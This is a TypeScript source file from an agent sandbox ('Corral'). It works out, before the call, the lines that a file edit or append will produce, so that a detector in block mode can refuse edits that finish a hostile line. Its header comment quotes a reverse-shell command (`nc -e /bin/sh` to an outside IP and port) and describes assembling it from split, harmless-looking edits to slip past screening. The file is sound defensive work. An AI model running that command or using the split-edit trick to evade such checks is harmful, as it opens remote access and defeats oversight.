// Why: with `detection.on_finding: block` a file call is judged before it runs, but an edit's new
// text alone can be one harmless half of a hostile line — `nc -QQ /bin/sh 198.51.100.7 4444`
// written first, then `str_replace QQ → e` — or finish a line an append continues (`nc -` then
// `e /bin/sh …`), or land in a script known as one only by its `#!`; a multi_edit or a replace_all
// can assemble such a line from several harmless edits in one call. After the call the lines it
// left are screened (file-tools.ts screenEditedLines), but then the file is already written. Here
// the same lines are worked out *before* the call from the file as it is now — read by Corral
// only where that is safe (plain-file.ts: the workspace or a writable root's layer, real
// directories, no link, no FIFO) — so block mode refuses the edit that completes the line.
// Threat it stops: a hostile script assembled from harmless edits in block mode. A file Corral
// cannot read safely, or that changes between this look and the call, is still screened after it.
import type { FileOperation } from './file-tools.js';

/** The most of a file an edit preview reads (larger files are judged after the call only). */
export const PREVIEW_MAX = 8 << 20;
/** As native/corral-file.c: how much of a file's end an append sees, the most context printed, the most an edit call adds. */
const APPEND_TAIL = 65536;
const EDIT_CONTEXT_MAX = 1 << 20;
const EDIT_GROWTH_MAX = 32 << 20;

const NL = 0x0a;

const bytes = (v: string | Uint8Array): Buffer => (typeof v === 'string' ? Buffer.from(v) : Buffer.from(v.buffer, v.byteOffset, v.length));

/** A changed stretch [s, e) of a text being edited (empty where text was only removed). */
type Span = [number, number];

/** The region printed for a change [s, e): its lines and one more line either side (native/corral-file.c region_of). */
function regionOf(d: Buffer, s: number, e: number): [number, number] {
  const before = (pos: number): number => (pos < 0 || d.length === 0 ? -1 : d.lastIndexOf(NL, Math.min(pos, d.length - 1)));
  const after = (pos: number): number => (pos >= d.length ? -1 : d.indexOf(NL, pos));
  let lo = s > 0 ? before(s - 1) + 1 : 0;
  lo = lo > 1 ? before(lo - 2) + 1 : 0;
  let h = after(e > s ? e - 1 : s);
  if (h >= 0) h = after(h + 1);
  return [lo, h < 0 ? d.length : h + 1];
}

/** The file's first line, as printed before regions that do not hold it (at most 255 bytes). */
function firstLine(d: Buffer): Buffer {
  const n = d.indexOf(NL);
  return n >= 0 && n < 255 ? d.subarray(0, n + 1) : Buffer.concat([d.subarray(0, 255), Buffer.from('\n')]);
}

/** The lines of d around bytes [s, e): one more line either side, and the first line when not among them (native/corral-file.c print_around). */
export function linesAround(d: Buffer, s: number, e: number): Buffer {
  const [lo, h] = regionOf(d, s, e);
  const hi = h - lo > EDIT_CONTEXT_MAX ? lo + EDIT_CONTEXT_MAX : h;
  return Buffer.concat([...(lo > 0 ? [firstLine(d)] : []), d.subarray(lo, hi)]);
}

/**
 * The lines around every changed span, regions that overlap or touch as one, the first line before
 * them when not among them, at most EDIT_CONTEXT_MAX bytes of regions (native/corral-file.c print_spans).
 */
export function linesAroundSpans(d: Buffer, spans: Span[]): Buffer {
  const regions: [number, number][] = [];
  for (const [s, e] of spans) {
    const [lo, hi] = regionOf(d, s, e);
    const last = regions.at(-1);
    if (last && lo <= last[1]) last[1] = Math.max(last[1], hi);
    else regions.push([lo, hi]);
  }
  const parts: Buffer[] = [];
  if (regions.length && regions[0]![0] > 0) parts.push(firstLine(d));
  let budget = EDIT_CONTEXT_MAX;
  for (const [lo, hi] of regions) {
    if (budget <= 0) break;
    const n = Math.min(hi - lo, budget);
    parts.push(d.subarray(lo, lo + n));
    budget -= n;
  }
  return Buffer.concat(parts);
}

/** Adds a span in order of start, merged into the last when it overlaps or touches it (native/corral-file.c span_push). */
function pushSpan(list: Span[], s: number, e: number): void {
  const last = list.at(-1);
  if (last && s <= last[1]) { if (e > last[1]) last[1] = e; return; }
  list.push([s, e]);
}

/**
 * The text after the edits (each to the text the ones before it left; replaceAll: every occurrence,
 * else exactly one) and the spans they changed, or undefined when one does not apply — what
 * native/corral-file.c edit_file does, so the preview judges the same lines.
 */
export function applyEdits(current: Buffer, edits: { old: string | Uint8Array; new: string | Uint8Array; replaceAll?: boolean }[]): { text: Buffer; spans: Span[] } | undefined {
  let text = current;
  let spans: Span[] = [];
  const limit = current.length + EDIT_GROWTH_MAX;
  for (const ed of edits) {
    const old = bytes(ed.old), neu = bytes(ed.new);
    const n = old.length, m = neu.length;
    if (n === 0) return undefined;
    const at: number[] = [];
    for (let hit = text.indexOf(old); hit >= 0; hit = text.indexOf(old, hit + n)) {
      at.push(hit);
      if (!ed.replaceAll && at.length > 1) return undefined;
    }
    if (at.length === 0) return undefined;
    if (text.length - at.length * n + at.length * m > limit) return undefined;
    const parts: Buffer[] = [];
    let from = 0;
    for (const a of at) { parts.push(text.subarray(from, a), neu); from = a + n; }
    parts.push(text.subarray(from));
    // where a position of the text before this edit is after it; inside a replaced occurrence: its replacement's start (end)
    const endedBy = (p: number): number => {
      let lo = 0, hi = at.length;
      while (lo < hi) { const mid = (lo + hi) >> 1; if (at[mid]! + n <= p) lo = mid + 1; else hi = mid; }
      return lo;
    };
    const moved = (p: number, end: boolean): number => {
      const j = endedBy(p);
      return j < at.length && at[j]! < p ? at[j]! - j * n + j * m + (end ? m : 0) : p - j * n + j * m;
    };
    const next: Span[] = [];
    for (let i = 0, k = 0; i < spans.length || k < at.length;) {
      let ms = 0, me = 0;
      if (i < spans.length) { ms = moved(spans[i]![0], false); me = Math.max(ms, moved(spans[i]![1], true)); }
      const ks = k < at.length ? at[k]! - k * n + k * m : 0;
      if (i < spans.length && (k >= at.length || ms <= ks)) { pushSpan(next, ms, me); i++; } else { pushSpan(next, ks, ks + m); k++; }
    }
    text = Buffer.concat(parts);
    spans = next;
  }
  return { text, spans };
}

/**
 * The output the file-tool program would print for this edit of `current` ("<size>\n" and the lines
 * around the change, or every change of a replace_all or multi_edit), or undefined when the call would
 * not edit (not an edit, old text absent or repeated, an edit of a multi_edit that does not apply,
 * line past the end): what screenEditedLines judges, before the call instead of after.
 */
export function previewEdit(spec: FileOperation, current: Buffer): string | undefined {
  let out: Buffer, s: number, e: number;
  if (spec.op === 'str_replace' || spec.op === 'multi_edit') {
    const done = applyEdits(current, spec.op === 'str_replace' ? [spec] : spec.edits);
    return done && `${done.text.length}\n${linesAroundSpans(done.text, done.spans).toString('utf8')}`;
  } else if (spec.op === 'insert') {
    const text = bytes(spec.text);
    let count = 0, at = 0;
    for (let i = 0; i < current.length; i++) {
      if (current[i] === NL || i + 1 === current.length) { count++; if (count === spec.line) at = i + 1; }
    }
    if (spec.line > count) return undefined;
    if (spec.line === 0) at = 0;
    const head = spec.line > 0 && current[at - 1] !== NL ? Buffer.concat([current.subarray(0, at), Buffer.from('\n')]) : current.subarray(0, at);
    const body = text.length > 0 && text[text.length - 1] !== NL && spec.line < count ? Buffer.concat([text, Buffer.from('\n')]) : text;
    out = Buffer.concat([head, body, current.subarray(at)]);
    [s, e] = [head.length, head.length + body.length];
  } else if (spec.op === 'write' && spec.append) {
    const tail = current.subarray(Math.max(0, current.length - APPEND_TAIL));
    const data = bytes(spec.content);
    const seen = Buffer.concat([tail, data]);
    return `${current.length + data.length}\n${linesAround(seen, tail.length, seen.length).toString('utf8')}`;
  } else return undefined;
  return `${out.length}\n${linesAround(out, s, e).toString('utf8')}`;
}
